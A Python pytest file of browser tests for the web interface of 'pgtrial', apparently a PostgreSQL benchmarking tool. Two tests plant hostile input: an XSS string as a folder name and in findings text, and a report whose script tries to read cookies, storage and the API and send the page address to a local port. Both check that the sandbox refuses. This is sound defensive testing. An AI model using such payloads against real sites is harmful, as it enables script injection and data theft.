"""The pages in a real browser: what they show while something happens, and what a hostile folder cannot do to them."""

import contextlib
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pgtrial.cli.session import write_report
from pgtrial.engine.events import LoadProgress, PhaseStarted, RunEnded, RunStarted
from pgtrial.engine.folder import lock_folder
from pgtrial.engine.live.watch import watching
from pgtrial.model.run import LoadLevel, PhaseName, RunState
from pgtrial.report.html import write_html
from pgtrial.store import layout
from pgtrial.store.findings_file import read_findings
from pgtrial.store.state import State
from support import incident, write_result_folder

PATIENCE = 60_000  # ms
SIZE = {"width": 1200, "height": 900}
MEASURE = PhaseStarted(name=PhaseName.MEASURE, level=LoadLevel(index=0, clients=4), length=11.0)

pytestmark = pytest.mark.browser


class Tab:
    """A page, and whatever was complained about or asked for on it."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.complaints: list[str] = []
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self._known: set[int] = set()  # ports of servers that have let it in
        self._heard = (
            (page, "console", lambda said: self.complaints.append(said.text) if said.type == "error" else None),
            (page, "pageerror", lambda error: self.complaints.append(str(error))),
            (page.context, "request", lambda request: self.asked.append(request.url)),
            (page, "dialog", self._dismiss),
        )
        for source, event, hear in self._heard:
            source.on(event, hear)

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, client: Any, path: str = "/") -> None:
        port = client.server.server_port
        if port not in self._known:
            self.page.goto(client.server.address)
            self.page.wait_for_url(lambda url: "token" not in url)
        if path != "/" or port in self._known:
            self.page.goto(f"http://127.0.0.1:{port}{path}")
        self._known.add(port)

    def close(self) -> None:
        """And leave nothing of it to the next."""
        for source, event, hear in self._heard:
            source.remove_listener(event, hear)
        for other in self.page.context.pages:
            if other != self.page:
                other.close()
        self.page.goto("about:blank")
        self.page.context.clear_cookies()
        self.page.set_viewport_size(SIZE)
        self.page.emulate_media(color_scheme="light")


@pytest.fixture(scope="module")
def page(chromium: Any) -> Iterator[Any]:
    """One for all tests, as making it takes longer than most of them. The servers of each are at an address of their
    own, so they have nothing in common but cookies.
    """
    with contextlib.closing(chromium.new_context(viewport=SIZE)) as context:
        context.set_default_timeout(PATIENCE)
        yield context.new_page()


@pytest.fixture
def tab(page: Any) -> Iterator[Tab]:
    with contextlib.closing(Tab(page)) as tab:
        yield tab


def test_the_list_is_reached_by_the_printed_address_alone(tab: Tab, client) -> None:
    tab.open(client)
    tab.page.get_by_role("link", name="finished").wait_for()

    assert tab.page.url == f"http://127.0.0.1:{client.server.server_port}/"
    assert "supported" in tab.page.inner_text("table")
    assert "interrupted" in tab.page.inner_text("table")
    assert tab.complaints == []
    assert all(url.startswith((client.server.address.partition("?")[0], "data:")) for url in tab.asked)


def test_a_watched_server_shows_its_last_hour_and_any_time_beside_one_like_it(tab: Tab, tmp_path: Path, serve) -> None:
    incident.write(tmp_path / "shop", incident.lock)
    client = serve(tmp_path)
    client.server.watches.clock = lambda: incident.B.end + 10.0
    tab.open(client)
    tab.page.get_by_role("link", name="shop").click()
    tab.page.get_by_text("Read until 2026-11-28 00:12 UTC").wait_for()

    assert tab.page.inner_text("#subtitle") == "database shop at db1:5432"
    assert incident.SELL in tab.page.inner_text("#statements")
    assert tab.page.locator("table.arms polyline").count() > 2
    tab.page.get_by_role("textbox", name="Time").fill(str(incident.B))
    tab.page.get_by_role("button", name="Compare").click()
    frame = tab.page.frame_locator("iframe.report")
    frame.get_by_text("A lock that is held too long").first.wait_for()
    frame.locator("html[data-charts=drawn]").wait_for(state="attached")
    assert tab.complaints == []
    tab.page.get_by_role("button", name="Look for alarms").click()
    tab.page.get_by_text("too little calm time to learn from").wait_for()
    assert all(url.startswith((client.server.address.partition("?")[0], "data:")) for url in tab.asked)


def test_an_experiment_that_begins_appears_by_itself(tab: Tab, tmp_path: Path, serve) -> None:
    tab.open(serve(tmp_path))
    tab.page.get_by_text("No experiment is here yet").wait_for()
    write_result_folder(tmp_path / ".part", runs=2).rename(tmp_path / "new")

    tab.page.get_by_role("link", name="new").wait_for()
    assert tab.complaints == []


def test_a_running_experiment_is_followed_to_its_report(
    tab: Tab, tmp_path: Path, serve: Callable[[Path], Any], shelf: Path
) -> None:
    """The folder grows while the page is open: figures, then an estimate, then verdict and report."""
    folder = write_result_folder(tmp_path / "growing", runs=9)
    client = serve(tmp_path)
    with contextlib.closing(State.open(folder)) as state:
        slots = state.slots()
    with lock_folder(folder), watching(lambda _view: None, folder=folder) as watch:
        for slot in slots[7:9]:
            watch(RunStarted(slot=slot, arms=(slot.arm,), slots=len(slots), attempt=1, remaining=100.0))
            watch(MEASURE)
            watch(LoadProgress(tps=1111.0, latency=0.004))
        tab.open(client)
        tab.page.get_by_role("link", name="growing").click()
        tab.page.get_by_text("run 9 of 18").wait_for()
        row = tab.page.locator("table.arms tbody tr", has_text=f"{slots[8].arm}")
        assert "1.11 k" in row.inner_text()
        assert "at work" in row.inner_text()
        points = row.locator("polyline").first.get_attribute("points")

        for tps in (2222.0, 2223.0):
            watch(LoadProgress(tps=tps, latency=0.004))
        watch.hurry()
        tab.page.get_by_text("2.22 k tps").wait_for()
        assert row.locator("polyline").first.get_attribute("points") != points

        tab.page.get_by_text("An estimate comes with the third complete block").wait_for()
        watch(RunEnded(slot=slots[8], state=RunState.DONE, reason="", seconds=12.0, not_load=2.0, tps=2000.0))
        watch.hurry()
        tab.page.get_by_text("after 3 blocks; margin ±5 %").wait_for()

        for path in (shelf / "finished" / layout.RUNS).iterdir():
            shutil.copytree(path, folder / layout.RUNS / path.name, dirs_exist_ok=True)
        shutil.copy(shelf / "finished" / layout.STATE, folder / layout.STATE)
    write_report(folder)

    tab.page.locator(".badge-supported").wait_for()
    frame = tab.page.frame_locator("iframe.report")
    frame.locator("html[data-charts=drawn]").wait_for(state="attached")
    assert frame.locator(".plot svg").count() > 3
    assert tab.complaints == []


def test_two_experiments_are_chosen_and_shown_side_by_side(tab: Tab, tmp_path: Path, serve, shelf: Path) -> None:
    one = shutil.copytree(shelf / "finished", tmp_path / "one")
    write_html(read_findings(one), one / layout.REPORT)
    shutil.copytree(one, tmp_path / "two")
    tab.open(serve(tmp_path))
    button = tab.page.get_by_text("Side by side", exact=True)
    assert button.get_attribute("href") is None
    for name in ("one", "two"):
        tab.page.get_by_label(f"Choose {name}").check()
    button.click()
    tab.page.locator("#effects tbody tr").first.wait_for()

    assert tab.page.locator("iframe.report").count() == 2
    tab.page.frame_locator("iframe.report >> nth=1").locator("html[data-charts=drawn]").wait_for(state="attached")
    assert "Nothing that was recorded differs" in tab.page.inner_text("main")
    assert tab.complaints == []


def test_a_hostile_name_and_text_are_shown_and_not_run(tab: Tab, tmp_path: Path, serve, shelf: Path) -> None:
    name = "<img src=x onerror=alert(1)><script>alert(2)<script>"
    shutil.copytree(shelf / "finished", tmp_path / name)
    findings = tmp_path / name / layout.FINDINGS
    findings.write_text(findings.read_text().replace("Without waiting", "<script>alert(3)</script>"))
    client = serve(tmp_path)
    (one,) = client.ask("/api/experiments").json["experiments"]
    for path, shown in (("/", name), (f"/experiments/{one['id']}", "<script>alert(3)</script>")):
        tab.open(client, path)
        tab.page.get_by_text(shown).first.wait_for()
    tab.open(client, f"/compare?a={one['id']}&b={one['id']}")
    tab.page.locator("#effects tbody tr").first.wait_for()

    assert tab.dialogs == []
    assert tab.complaints == []


HOSTILE = """<!doctype html><meta charset="utf-8"><title>x</title><p id="out">started</p><script>
const done = [];
const attempt = async (name, what) => {
  try { const found = await what(); done.push(name + ": " + (found === undefined ? "done" : found)); }
  catch (error) { done.push(name + ": refused"); }
};
(async () => {
  await attempt("cookie", () => document.cookie || Promise.reject());
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent === self ? Promise.reject() : parent.document.title);
  await attempt("read", () => fetch("/api/experiments", {credentials: "include"}).then((r) => r.text()));
  await attempt("send", () => fetch("http://127.0.0.1:9/?" + location, {mode: "no-cors"}));
  await attempt("image", () => new Promise((yes, no) => {
    const image = new Image(); image.onload = () => yes(); image.onerror = no; image.src = "/static/app.js"; }));
  await attempt("window", () => open("/") ?? Promise.reject());
  await attempt("top", () => { if (top === self) throw 1; top.location = "/nowhere"; });
  document.getElementById("out").textContent = done.join("; ");
})();
</script>"""


@pytest.mark.parametrize("alone", [True, False])
def test_a_hostile_report_reaches_nothing(tab: Tab, tmp_path: Path, serve, shelf: Path, alone: bool) -> None:
    shutil.copytree(shelf / "finished", tmp_path / "hostile")
    (tmp_path / "hostile" / layout.REPORT).write_text(HOSTILE)
    client = serve(tmp_path)
    one = client.id_of("hostile")
    tab.open(client, f"/reports/{one}" if alone else f"/experiments/{one}")
    place = tab.page if alone else tab.page.frame_locator("iframe.report")
    place.locator("#out", has_text="; top: ").wait_for()

    assert place.locator("#out").inner_text() == (
        "cookie: refused; storage: refused; parent: refused; read: refused; send: refused; image: refused; "
        "window: refused; top: refused"
    )
    assert tab.page.url.endswith(f"/{one}")
    assert not any(":9/" in url or "nowhere" in url for url in tab.asked)


def test_a_page_of_another_port_can_neither_frame_nor_read(tab: Tab, client, tmp_path: Path, serve) -> None:
    """Another server on this machine is the same site for the cookie, but not the same origin."""
    other = serve(tmp_path)
    tab.open(client)
    tab.page.get_by_role("link", name="finished").wait_for()
    tab.open(other)
    target = f"http://127.0.0.1:{client.server.server_port}/api/experiments"

    assert (
        tab.page.evaluate(f"fetch('{target}', {{credentials: 'include'}}).then(() => 'read', () => 'refused')")
        == "refused"
    )


def test_the_page_says_when_the_server_has_gone(tab: Tab, client) -> None:
    tab.open(client)
    tab.page.get_by_role("link", name="finished").wait_for()
    client.server.shutdown()
    client.server.server_close()

    tab.page.get_by_text("The connection is lost").wait_for()
    assert "finished" in tab.page.inner_text("main")


@pytest.mark.parametrize(("width", "scheme"), [(360, "light"), (1200, "dark")])
def test_no_page_is_wider_than_the_screen(tab: Tab, client, width: int, scheme: str) -> None:
    tab.page.set_viewport_size({"width": width, "height": 800})
    tab.page.emulate_media(color_scheme=scheme)
    one = client.id_of("finished")
    for path in ("/", f"/experiments/{one}", f"/compare?a={one}&b={one}"):
        tab.open(client, path)
        tab.page.locator("main[aria-busy=false]").wait_for()
        assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_everything_can_be_reached_by_the_keyboard(tab: Tab, client) -> None:
    tab.open(client)
    tab.page.get_by_role("link", name="finished").wait_for()
    reached = []
    for _ in range(8):
        tab.page.keyboard.press("Tab")
        reached.append(tab.page.evaluate("document.activeElement.ariaLabel || document.activeElement.textContent"))

    assert {"pgtrial", "Choose finished", "finished", "Choose stopped", "stopped"} <= set(reached)
